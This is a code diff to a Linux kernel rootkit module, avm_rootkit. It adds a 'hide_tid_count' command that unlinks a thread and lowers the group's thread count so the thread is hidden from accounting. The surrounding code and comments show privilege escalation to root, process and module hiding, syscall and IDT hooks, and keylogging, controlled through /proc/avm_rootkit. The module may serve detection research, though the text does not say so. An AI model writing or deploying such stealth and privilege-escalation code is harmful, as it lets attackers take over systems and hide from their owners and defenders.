@@ -7,6 +7,7 @@
  *   echo 'syscall 1' > /proc/avm_rootkit     (0 switches it off again)
  *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
  *   echo 'hide_tid 124' > /proc/avm_rootkit  (hide_tid 0: relink)
+ *   echo 'hide_tid_count 124' > /proc/avm_rootkit  (hide_tid_count 0: relink)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
@@ -34,7 +35,9 @@
  * its inode number),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), hide_tid (a thread unlinked from its
- * group's thread list, signal->nr_threads left), root_pid (a task's cred ids set to 0),
+ * group's thread list, signal->nr_threads left), hide_tid_count (the
+ * same, and signal->nr_threads lowered by one: only the PID table still
+ * has the thread), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
  * the exec of a set-uid root program makes),
  * reparent_pid (a task's real_parent pointed at init, the task left on its
@@ -637,6 +640,8 @@ static int hide_task(pid_t nr)
 /* ---- (g') hide_tid: a thread unlinked from its group's thread list ---- */
 
 static struct task_struct *hidden_thread;
+/* Whether signal->nr_threads was lowered with the unlink (hide_tid_count). */
+static bool hidden_thread_uncounted;
 
 static void unhide_thread(void)
 {
@@ -645,15 +650,22 @@ static void unhide_thread(void)
 	if (!t)
 		return;
 	write_lock_irq(tasklist_lock_p);
-	if (pid_alive(t))
+	if (pid_alive(t)) {
 		list_add_tail_rcu(&t->thread_node, &t->signal->thread_head);
+		if (hidden_thread_uncounted)
+			t->signal->nr_threads++;
+	}
 	write_unlock_irq(tasklist_lock_p);
 	hidden_thread = NULL;
+	hidden_thread_uncounted = false;
 	put_task_struct(t);
 }
 
-/* As hide_task, on thread_node: signal->nr_threads is left as it was. */
-static int hide_thread(pid_t nr)
+/*
+ * As hide_task, on thread_node; with uncount, signal->nr_threads lowered
+ * too (else left as it was).
+ */
+static int hide_thread(pid_t nr, bool uncount)
 {
 	struct task_struct *t;
 	int err = 0;
@@ -676,6 +688,8 @@ static int hide_thread(pid_t nr)
 	} else {
 		t->thread_node.prev->next = t->thread_node.next;
 		t->thread_node.next->prev = t->thread_node.prev;
+		if (uncount)
+			t->signal->nr_threads--;
 	}
 	write_unlock_irq(tasklist_lock_p);
 	if (err) {
@@ -688,6 +702,7 @@ static int hide_thread(pid_t nr)
 		INIT_LIST_HEAD(&t->thread_node);
 	write_unlock_irq(tasklist_lock_p);
 	hidden_thread = t;
+	hidden_thread_uncounted = uncount;
 	return 0;
 }
 
@@ -860,7 +875,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -869,7 +884,8 @@ static int rk_show(char *buf, size_t size)
 			 nf_hook_net ? nf_hook_net->ns.inum : 0, !!rk_nf_ingress_ops.dev,
 			 hidden_net ? hidden_net->ns.inum : 0, module_hidden,
 			 hidden_task ? hidden_task->pid : 0,
-			 hidden_thread ? hidden_thread->pid : 0,
+			 hidden_thread && !hidden_thread_uncounted ? hidden_thread->pid : 0,
+			 hidden_thread && hidden_thread_uncounted ? hidden_thread->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
@@ -932,7 +948,9 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 	else if (!strcmp(name, "hide_pid"))
 		err = hide_task(val);
 	else if (!strcmp(name, "hide_tid"))
-		err = hide_thread(val);
+		err = hide_thread(val, false);
+	else if (!strcmp(name, "hide_tid_count"))
+		err = hide_thread(val, true);
 	else if (!strcmp(name, "root_pid"))
 		err = root_task(val, false);
 	else if (!strcmp(name, "euid_pid"))
@@ -1017,7 +1035,7 @@ static void __exit rk_exit(void)
 	set_hide_netns(false);
 	set_hide_module(false);
 	hide_task(0);
-	hide_thread(0);
+	hide_thread(0, false);
 	root_task(0, false);
 	reparent_task(0);
 	untree_task(0);
